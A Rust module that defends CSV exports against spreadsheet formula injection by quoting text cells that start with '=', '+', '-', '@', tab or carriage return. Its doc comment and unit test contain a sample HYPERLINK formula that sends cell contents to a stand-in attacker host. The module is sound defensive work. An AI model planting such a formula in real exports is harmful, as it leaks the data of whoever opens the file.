//! Cells of the CSV files the system writes, defused against formula injection.
//!
//! A spreadsheet opening a CSV runs a cell beginning with `=`, `+`, `-` or `@`
//! as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"click")` sends the
//! sheet away on a click), and one beginning with a tab or a carriage return can
//! hide such a sign. Every CSV writer (open data, PTNT_OCOP, the audit trail)
//! passes its text cells through [`defuse`], which puts a single quote in front,
//! as OWASP recommends: the spreadsheet shows the text as typed.
//!
//! Only **text** cells are defused. A numeric column (an amount such as
//! `DoanhThuNam`, a sequence number, stars) is written as the server formats the
//! number and never passes here, so a legitimate `-12.50` stays a number; a text
//! cell that happens to look like a negative number (`-5` typed as a name) gets
//! the quote, which is the price of not guessing.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell, with a `'` in front when it begins like a formula.
///
/// ```
/// use ocop_domain::text::csv_cell::defuse;
/// assert_eq!(defuse("=1+1"), "'=1+1");
/// assert_eq!(defuse("Trà Shan tuyết"), "Trà Shan tuyết");
/// ```
pub fn defuse(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The UTF-8 byte order mark written first in every CSV download, so Excel on
/// Windows reads the Vietnamese letters as UTF-8 rather than the ANSI code page.
pub const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_defused_and_plain_text_is_not() {
        for hostile in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            let cell = defuse(hostile);
            assert!(cell.starts_with('\''), "{hostile:?}");
            assert_eq!(&cell[1..], hostile);
        }
        for plain in ["", "Nước mắm", "42-2026-4S-00017", "'quoted", " =1"] {
            assert_eq!(defuse(plain), plain);
        }
    }
}
